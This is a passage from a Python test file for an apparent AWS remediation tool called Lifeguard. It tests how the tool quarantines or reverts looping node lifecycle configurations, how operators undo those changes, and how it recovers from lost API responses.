        if tool == "CloudFormation"
        else (
            "node_lifecycle_actions.stages.node_ready = ",
            "node_lifecycle_actions.stages.node_bootstrapped[0].on_error",
            " = ",
        )
    )
    assert f"{field}{sep}STOP_SEQUENCE" in reason  # an edit in place keeps its path
    assert "NodeReady[" not in reason
    assert "node_ready[" not in reason
    given, _ = json.JSONDecoder().raw_decode(reason, reason.index(stage) + len(stage))
    held = world.group()["nodeLifecycleActions"]["stages"]["nodeReady"]
    assert [script["Name" if tool == "CloudFormation" else "name"] for script in given] == [
        script["name"] for script in held
    ]
    assert held[0]["name"] == "lifeguard-drain"


def test_a_template_owners_note_of_a_revert_that_takes_a_script_out_gives_the_stage_whole() -> None:
    """A revert that took a script out named it `NodeBootstrapped[0]: null` and then edited the script after
    it at the same index: a template written so held a null script."""
    from lifeguard.lifecycle import diff_api_configs
    from lifeguard.remediation.iac import ManagedBy

    def script(name: str, *arguments: str) -> dict[str, Any]:
        source = {"scriptLocation": f"s3://lca-scripts-example/scripts/{name}.sh"}
        return {"name": name, "scriptSource": source, "arguments": list(arguments)}

    before = {"stages": {"nodeBootstrapped": [script("a"), script("b", "old")]}}
    after = {"stages": {"nodeBootstrapped": [script("b", "new")]}}
    note = ManagedBy("CloudFormation", "hpc-cluster").note(diff_api_configs(before, after), after)
    assert note.endswith(
        "put it in the template: NodeLifecycleActions.Stages.NodeBootstrapped: "
        '[{"Name":"b","ScriptSource":{"ScriptLocation":"s3://lca-scripts-example/scripts/b.sh"},'
        '"Arguments":["new"]}].'
    )


@pytest.mark.parametrize(
    ("tags", "says"),
    [
        (
            {"aws:cloudformation:stack-name": "hpc-cluster"},
            "This group belongs to CloudFormation stack hpc-cluster: its next deploy puts the old "
            "NodeLifecycleActions back. To keep this change, put it in the template: "
            "NodeLifecycleActions.Stages.NodeBootstrapped[0].OnError: STOP_SEQUENCE.",
        ),
        (
            {"managed-by": "terraform:hpc/prod"},
            "This group is managed by Terraform (terraform:hpc/prod): the next terraform apply puts the old "
            "lifecycle actions back. To keep this change, put it in the configuration: "
            "node_lifecycle_actions.stages.node_bootstrapped[0].on_error = STOP_SEQUENCE.",
        ),
    ],
)
def test_a_remediation_of_a_group_owned_by_a_template_says_the_next_deploy_undoes_it_and_what_to_keep(
    tags: dict[str, str], says: str
) -> None:
    world = World(tags=tags)
    [event] = world.remediator().handle_event(world.detection())
    assert event.detail_type == "RemediationApplied"
    assert event.detail["reason"].endswith(says)


def test_a_remediation_of_a_group_no_template_owns_says_nothing_of_deploys() -> None:
    world = World(tags={"managed-by": "the HPC team"})
    [event] = world.remediator().handle_event(world.detection())
    assert "deploy" not in event.detail["reason"]
    assert "terraform" not in event.detail["reason"].lower()


def test_an_escalation_does_not_revert_to_the_configuration_the_loop_began_on() -> None:
    world = World()  # mode quarantine
    world.prove_good(TERMINATE)  # it booted for months, until its unpinned script changed in S3
    remediator = world.remediator()
    [first] = remediator.handle_event(world.detection())
    assert first.detail["action"] == "quarantine"
    world.settle()
    [second] = remediator.handle_event(world.detection(revision=2))  # the loop goes on: escalate
    failing = world.group()["nodeLifecycleActions"]["stages"]["nodeBootstrapped"][0]
    assert (failing["name"], failing["onError"]) == ("fail-terminate", "STOP_SEQUENCE"), second.detail[
        "reason"
    ]
    assert "the one this loop began on" in second.detail["reason"]


def test_a_configuration_proven_good_after_lifeguard_changed_it_for_a_loop_is_reverted_to() -> None:
    """The configuration looped and was quarantined; its owners mended what it fetches and put it back, and
    a node proved it good since. A later bad change is reverted to it: only a loop after its proof says it
    may loop again."""
    world = World(tags={"lifeguard:mode": "revert"})
    remediator = world.remediator()
    [first] = remediator.handle_event(world.detection("ep-1"))
    assert "no proven-good configuration is known: quarantined instead" in first.detail["reason"]
    world.person_sets(TERMINATE)  # what it fetches mended in S3, the configuration put back
    state = world.store.load(CLUSTER, GROUP)
    state.episode = None
    state.proven_good = ProvenGood(
        fingerprint=fingerprint_of(TERMINATE),
        node_lifecycle_actions=TERMINATE,
        modified_at=int(world.group()["modifiedAt"].timestamp() * 1000),
        proven_at=int(world.now() * 1000),
        instance_id="i-0a1b2c3d4e5f60718",
    )
    world.store.save(state)
    world.clock.advance(3600)
    broken = copy.deepcopy(TERMINATE)
    broken["stages"]["nodeBootstrapped"][0]["arguments"] = ["--mount", "/does-not-exist"]
    world.person_sets(broken)
    [second] = remediator.handle_event(world.detection("ep-2"))
    assert (second.detail_type, second.detail["action"]) == ("RemediationApplied", "revert"), second.detail[
        "reason"
    ]
    assert world.group()["nodeLifecycleActions"] == TERMINATE


def test_in_revert_mode_a_revert_that_found_nothing_proven_good_is_the_reverts_step_too() -> None:
    """Mode revert, nothing proven good: the revert quarantines instead (recorded as a quarantine). That
    was the revert's rung: if the loop goes on, the next step is a person, not one more quarantine."""
    world = World(tags={"lifeguard:mode": "revert"})
    remediator, suspecting = _three_scripts(world)

    [first] = remediator.handle_event(suspecting(1, "fail-terminate"))
    assert "no proven-good configuration is known: quarantined instead" in first.detail["reason"]
    world.settle()
    [second] = remediator.handle_event(suspecting(2, "record-after-fail"))
    ledger = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP)
    assert [c.action for c in ledger.changes] == ["quarantine"], second.detail["reason"]
    assert second.detail_type == "RemediationSkipped"
    assert "a person must look" in second.detail["reason"]


def _an_undo_of_a_revert_both_answered_by_no_one() -> tuple[World, Remediator, Operator]:
    """Quarantine (made), then the revert (PCS made it, its answer lost: left pending, the group holds it).
    The operator undoes the revert; PCS makes that too and loses the answer ('run lifeguard undo again to
    find out'): the revert and its undo are both pending in the ledger."""
    world = World()
    remediator = world.remediator()
    remediator.handle_event(world.detection())  # quarantine, made
    world.settle()
    world.prove_good(GOOD)
    update, read = world.api.update_compute_node_group, world.api.get_compute_node_group

    def unanswered(**params: Any) -> Any:
        raise ReadTimeoutError(endpoint_url="https://pcs.us-east-1.amazonaws.com")

    def made_but_never_answered(**params: Any) -> Any:
        update(**params)
        raise ReadTimeoutError(endpoint_url="https://pcs.us-east-1.amazonaws.com")

    def revert_made_reads_lost(**params: Any) -> Any:
        update(**params)
        world.api.get_compute_node_group = unanswered
        raise ReadTimeoutError(endpoint_url="https://pcs.us-east-1.amazonaws.com")

    world.api.update_compute_node_group = revert_made_reads_lost
    with pytest.raises(RemediationParkedError):
        remediator.handle_event(world.detection(revision=2))  # the loop went on: revert
    world.api.update_compute_node_group, world.api.get_compute_node_group = update, read
    world.settle()
    assert world.group()["nodeLifecycleActions"] == GOOD  # PCS holds the revert; the ledger says pending

    operator = world.operator()
    world.api.update_compute_node_group = made_but_never_answered
    with pytest.raises(OperatorError, match="run lifeguard undo again"):
        operator.undo(GROUP, CLUSTER)
    world.api.update_compute_node_group = update
    world.settle()
    assert world.group()["nodeLifecycleActions"] == QUARANTINED  # the undo of the revert was made
    return world, remediator, operator


def test_running_undo_again_after_pcs_lost_its_answer_writes_it_down_and_undoes_nothing_more() -> None:
    """Run again, the undo must find its own undo made and write it down (README), not take back the
    quarantine as well and put the looping configuration back."""
    world, _, operator = _an_undo_of_a_revert_both_answered_by_no_one()
    _undo_again_finds_its_undo_made(world, operator)


def test_a_detection_meanwhile_leaves_a_change_whose_undo_is_set_out_to_the_undo() -> None:
    """A detection decided between the two undos settles the other changes it finds pending, but not one
    whose undo the operator set out: that is the undo's to settle (else the revert would be called
    unconfirmed, the group holding neither it nor what it replaced)."""
    world, remediator, operator = _an_undo_of_a_revert_both_answered_by_no_one()
    remediator.handle_event(world.detection(revision=3))
    ledger = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP)
    assert [(c.action, c.status) for c in ledger.changes][:3] == [
        ("quarantine", "applied"),
        ("revert", "pending"),
        ("undo", "pending"),
    ]
    _undo_again_finds_its_undo_made(world, operator)


def _undo_again_finds_its_undo_made(world: World, operator: Operator) -> None:
    again = operator.undo(GROUP, CLUSTER)
    assert world.group()["nodeLifecycleActions"] == QUARANTINED, again.lines  # nothing more undone
    ledger = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP)
    assert [(c.action, c.status, c.undone_at is not None) for c in ledger.changes] == [
        ("quarantine", "applied", False),
        ("revert", "applied", True),
        ("undo", "applied", False),
    ]


def _scale_out_detection(world: World, nodes: int) -> dict[str, Any]:
    """The article's loop on a scale-out of `nodes` nodes that all failed (the rule keeps up to 100)."""
    event = world.detection()
    failures = [
        {
            "instance_id": f"i-{n:017x}",
            "scheduler_node_id": f"lca-static-{n}",
            "event_timestamp": 1792544802000 + n * 1000,
        }
        for n in range(nodes)
    ]
    event["detail"] = {**event["detail"], "failures": failures}
    return event


def _lose_first_answer(world: World) -> None:
    """The next single write is applied but its answer is lost: botocore's resend meets its own version."""
    for name in ("put_item", "update_item"):
        original = getattr(world.table, name)

        def applied_then_lost(_original: Any = original, **request: Any) -> Any:
            _original(**request)
            for other in ("put_item", "update_item"):
                world.table.__dict__.pop(other, None)
            raise client_error("ConditionalCheckFailedException", "PutItem")

        setattr(world.table, name, applied_then_lost)


@pytest.mark.parametrize("path", ["direct", "outbox_after_putevents_failure", "outbox_after_lost_answer"])
def test_a_detection_published_from_the_outbox_is_remediated_like_one_published_directly(path: str) -> None:
    world = World()
    detected = _scale_out_detection(world, 70)
    event = ControllerEvent("BootstrapLoopDetected", detected["detail"], "ep-1:BootstrapLoopDetected:1")
    updater = GroupUpdater(
        world.store, EventPublisher(world.bus, "bus", sleep=lambda _: None), clock=world.now
    )

    def detect(state: GroupState) -> Change:  # idempotent, as every mutation is
        if "i-x" in state.launches:
            return Change()
        state.launches["i-x"] = 1
        return Change(True, [event])

    if path == "outbox_after_putevents_failure":
        world.bus.refuse_calls = 3  # a PutEvents outage of seconds: Lambda's retry publishes from the outbox
        with pytest.raises(AwsCallError):
            updater.update(CLUSTER, GROUP, detect)
        world.clock.advance(60)
    elif path == "outbox_after_lost_answer":
        _lose_first_answer(world)
    updater.update(CLUSTER, GROUP, detect)
    [(detail_type, detail)] = world.bus.events()
    world.bus.entries.clear()
    events = world.remediator().handle_event(
        {"detail-type": detail_type, "source": "lifeguard", "detail": detail}
    )
    assert [e.detail_type for e in events] == ["RemediationApplied"], events[0].detail["reason"]
    assert world.group()["nodeLifecycleActions"] != TERMINATE


def test_a_decision_published_only_after_the_operator_s_undo_tells_the_change_undone() -> None:
    world = World()
    remediator = world.remediator()
    event = world.detection()
    world.bus.refuse_calls = 3  # EventBridge refuses the put: the decision is stored, not published
    with pytest.raises(AwsCallError):
        remediator.handle_event(event)
    assert world.bus.events() == []
    world.settle()
    operator = world.operator()
    assert operator.undo(GROUP, CLUSTER).applied  # the operator undoes the quarantine
    world.settle()
    assert world.group()["nodeLifecycleActions"] == TERMINATE
    remediator.handle_event(event)  # Lambda's retry (or a redrive from the parked queue)
    [(kind, detail)] = world.bus.events()  # the change is no longer there: told undone, no undo line
    assert kind == "RemediationSkipped"
    assert detail["reason"].startswith("Undone: the operator undid Lifeguard's quarantine at")
    assert detail["undo"] is None


def test_after_the_operator_s_undo_a_loop_on_lifeguard_s_configuration_put_back_is_left_to_people() -> None:
    world = World()
    remediator = world.remediator()
    remediator.handle_event(world.detection())  # quarantine, applied
    world.settle()
    world.prove_good(GOOD)
    operator = world.operator()
    assert operator.undo(GROUP, CLUSTER).applied
    world.settle()
    assert world.group()["nodeLifecycleActions"] == TERMINATE
    world.person_sets(QUARANTINED)  # the group's template, which took Lifeguard's change in, is deployed
    [answer] = remediator.handle_event(world.detection(revision=2))  # the loop goes on under it
    assert answer.detail["reason"].startswith("Undone:"), answer.detail["reason"]
    assert len(world.lifeguard_updates()) == 2  # the quarantine and the operator's undo, nothing more


def test_one_change_is_counted_applied_once_when_its_decision_was_not_stored_the_first_time() -> None:
    world = World()
    counted: list[str] = []
    remediator = world.remediator(metric=lambda name, value: counted.extend([name] * int(value)))
    event = world.detection()
    put, failed = world.table.put_item, []

    def decision_write_throttled(**request: Any) -> Any:
        if request["Item"]["sk"]["S"].startswith("DECISION#") and not failed:
            failed.append(request)
            raise client_error("ProvisionedThroughputExceededException", "PutItem")
        return put(**request)

    world.table.put_item = decision_write_throttled
    with pytest.raises(AwsCallError):
        remediator.handle_event(event)
    world.table.put_item = put
    world.clock.advance(60)
    remediator.handle_event(event)  # Lambda's retry: the change is found made (reconciled)
    assert len(world.lifeguard_updates()) == 1  # one change
    assert counted.count("RemediationApplied") == 1, counted


def test_a_refused_detection_is_counted_skipped_once_when_its_event_was_put_on_the_retry() -> None:
    world = World()
    counted: list[str] = []
    remediator = world.remediator(metric=lambda name, value: counted.extend([name] * int(value)))
    event = world.detection(revision=1)
    event["detail"]["revision"] = 7  # newer than the open episode's: refused, no decision recorded
    world.bus.refuse_calls = 3
    with pytest.raises(AwsCallError):
        remediator.handle_event(event)
    remediator.handle_event(event)  # Lambda's retry puts it
    assert [kind for kind, _ in world.bus.events()] == ["RemediationSkipped"]
    assert counted.count("RemediationSkipped") == 1, counted


def test_undo_json_says_what_it_puts_back_and_whether_it_did() -> None:
    """`lifeguard undo --json`: `config_after` is the configuration the undo puts back (what Lifeguard's
    change replaced), `applied` false for a dry run and true once made."""
    world, _ = _quarantined()
    operator = world.operator()
    shown = operator.undo(GROUP, CLUSTER, dry_run=True).to_dict()
    assert shown["applied"] is False
    assert shown["config_after"] == TERMINATE
    assert (shown["cluster_id"], shown["compute_node_group_id"]) == (CLUSTER, GROUP)
    assert shown["undoes"]["action"] == "quarantine"
    assert [d["path"] for d in shown["diff"]] == ["stages.nodeBootstrapped[0].onError"]
    assert (shown["dry_run"], shown["forced"]) == (True, False)
    assert shown["lines"][-1] == "dry run: nothing changed"
    done = operator.undo(GROUP, CLUSTER).to_dict()
    assert done["applied"] is True
    assert (done["dry_run"], done["forced"]) == (False, False)
    assert done["config_after"] == TERMINATE
    assert world.group()["nodeLifecycleActions"] == TERMINATE


def test_undo_json_says_a_forced_undo_puts_back_over_a_change_since_and_the_warnings_the_table_shows() -> (
    None
):
    """A script could not tell a forced dry run from a plain one, nor see the warnings the table printed
    (the group changed since, the episode not over)."""
    world, _ = _quarantined()
    world.api.update_compute_node_group(  # someone sets the group again since
        clusterIdentifier=CLUSTER, computeNodeGroupIdentifier=GROUP, nodeLifecycleActions=copy.deepcopy(GOOD)
    )
    world.settle()
    shown = world.operator().undo(GROUP, CLUSTER, dry_run=True, force=True)
    document = shown.to_dict()
    assert (document["dry_run"], document["forced"], document["applied"]) == (True, True, False)
    assert document["lines"] == shown.lines
    assert any("the group changed since Lifeguard's change" in line for line in document["lines"])


def test_a_group_name_in_two_clusters_is_refused_not_guessed() -> None:
    """`lifeguard undo lca-static` without --cluster, two clusters each holding a group of that name:
    refused, not the first cluster's taken."""
    world, _ = _quarantined()
    other_cluster, other_group = "pcs_zzz999zz99", "pcs_zzzzzz99"
    world.pcs.add_cluster("other", cluster_id=other_cluster)
    world.pcs.add_compute_node_group(
        other_cluster, "lca-static", group_id=other_group, node_lifecycle_actions=TERMINATE
    )
    world.store.save(GroupState(cluster_id=other_cluster, group_id=other_group))
    operator = world.operator()
    with pytest.raises(OperatorError, match="is in several clusters; pass --cluster"):
        operator.resolve("lca-static")
    with pytest.raises(OperatorError, match="several clusters"):
        operator.undo("lca-static", dry_run=True)


def test_an_undo_of_a_group_not_active_is_refused_before_pcs_is_asked() -> None:
    """Lifeguard's change not settled yet (the group UPDATING): the undo says to try again when ACTIVE,
    and sets out nothing in the ledger."""
    world = World()
    world.remediator().handle_event(world.detection())
    assert world.group()["status"] != "ACTIVE"
    operator = world.operator()
    with pytest.raises(OperatorError, match="try again when it is ACTIVE"):
        operator.undo(GROUP, CLUSTER)
    assert [c.action for c in operator.remediation.ledger(CLUSTER, GROUP).changes] == ["quarantine"]


def test_a_forced_undo_is_audited_as_forced() -> None:
    world, _ = _quarantined()
    world.person_sets(TERMINATE | {"scriptCachingPolicy": "REFRESH_ON_REBOOT"})  # someone else's change
    operator = world.operator()
    with pytest.raises(
        OperatorError, match="--force would put back the configuration from before over theirs"
    ):
        operator.undo(GROUP, CLUSTER)
    operator.undo(GROUP, CLUSTER, force=True)
    last = operator.remediation.history(CLUSTER, GROUP)[-1]
    assert (last.decision, last.actor) == ("undo", "operator")
    assert last.reason.endswith("(--force)")


def test_status_json_names_the_proven_good_fingerprint() -> None:
    world, _ = _quarantined()
    world.prove_good(GOOD)
    (row,) = world.operator().status()
    assert row.to_dict()["proven_good_fingerprint"] == fingerprint_of(GOOD)


def test_undo_of_a_group_named_with_its_cluster_reads_its_own_items_not_the_whole_table() -> None:
    """The undo command a notification gives names both ids: the group's items are read, and the table
    (node reports, notices, audits of every group: a Scan of all of it) is not, mid-incident. Only a group
    given without its cluster is looked for among every group's state."""
    world = World()
    [applied] = world.remediator().handle_event(world.detection())
    assert applied.detail_type == "RemediationApplied"
    world.table.requests.clear()
    world.operator().undo(GROUP, CLUSTER, dry_run=True)
    world.operator().undo(f"{CLUSTER}/{GROUP}", dry_run=True)
    assert "Scan" not in world.table.requests
    world.operator().undo(GROUP, dry_run=True)
    assert len(world.table.requests["Scan"]) == 1


def test_status_lets_the_groups_it_has_not_begun_go_when_one_read_fails(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """status reads a few groups at a time; the first failure is the command's, and the groups not begun
    are let go with it, not read on (against an AWS that fails slowly, minutes before it is said)."""
    import threading

    from lifeguard_cli import operate

    operator = World().operator()
    states = [GroupState(cluster_id=CLUSTER, group_id=f"pcs_g{n:07d}") for n in range(40)]
    monkeypatch.setattr(operator.states, "all_states", lambda unreadable: states)
    monkeypatch.setattr(operator, "_group_names", lambda cluster: {})
    released, begun = threading.Event(), []

    def row(state: GroupState, names: Any) -> Any:
        begun.append(state.group_id)
        if state is states[0]:
            raise AwsCallError("Query", "InternalServerError", "the table failed")
        released.wait(5)  # the others, slow: still reading as the first fails
        return None

    monkeypatch.setattr(operator, "_row", row)
    threading.Timer(0.5, released.set).start()
    with pytest.raises(AwsCallError, match="the table failed"):
        operator.status()
    assert len(begun) <= 2 * operate.STATUS_READERS


def test_history_of_the_latest_entries_reads_only_those() -> None:
    """`history --last N`: the audit trail is read newest first, N items, not all of its 90 days."""
    world, _ = _quarantined()
    world.table.requests.clear()
    _, _, entries = world.operator().history(GROUP, CLUSTER, last=1)
    assert [entry.decision for entry in entries] == ["applied"]
    [query] = [q for q in world.table.requests["Query"] if "AUDIT" in json.dumps(q)]
    assert (query.get("Limit"), query.get("ScanIndexForward")) == (1, False)


def test_an_answer_lost_then_the_old_configuration_set_again_on_an_active_group_is_not_sent_again() -> None:
    """PCS takes the quarantine and answers 500; someone puts the configuration from before back and the
    group is ACTIVE again. Sent again under the same clientToken, PCS takes it as made already: Lifeguard
    told RemediationApplied, with an undo, while the group ran the looping configuration."""
    world = World()
    remediator, event = world.remediator(), world.detection()
    update = world.api.update_compute_node_group
    asked: list[dict[str, Any]] = []

    def taken_then_500_then_set_back(**params: Any) -> Any:
        asked.append(params)
        answer = update(**params)
        if len(asked) == 1:
            world.settle()
            update(
                clusterIdentifier=CLUSTER, computeNodeGroupIdentifier=GROUP, nodeLifecycleActions=TERMINATE
            )
            world.settle()
            raise client_error("InternalServerException", "UpdateComputeNodeGroup")
        return answer

    world.api.update_compute_node_group = taken_then_500_then_set_back
    try:
        [decided] = remediator.handle_event(event)
    finally:
        world.api.update_compute_node_group = update
    assert len(asked) == 1
    assert decided.detail_type == "RemediationSkipped"
    assert "PCS may have made it" in decided.detail["reason"]
    [change] = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP).changes
    assert change.status == "unconfirmed"


def test_a_group_updating_longer_than_the_invocation_has_left_is_not_waited_for_past_it() -> None:
    """No wait outlasts the time the invocation has left: Lambda would stop it mid-wait, with no
    RemediationFailed published and no reason kept."""
    world = World()
    world.pcs.update_seconds = 3600
    world.person_sets(TERMINATE)
    event = world.detection()
    with pytest.raises(RemediationParkedError, match="still UPDATING after 30 s"):
        world.remediator().handle_event(event, remaining_ms=60_000)
    assert sum(world.sleeps) <= 30
    assert [kind for kind, _ in world.bus.events()] == ["RemediationFailed"]
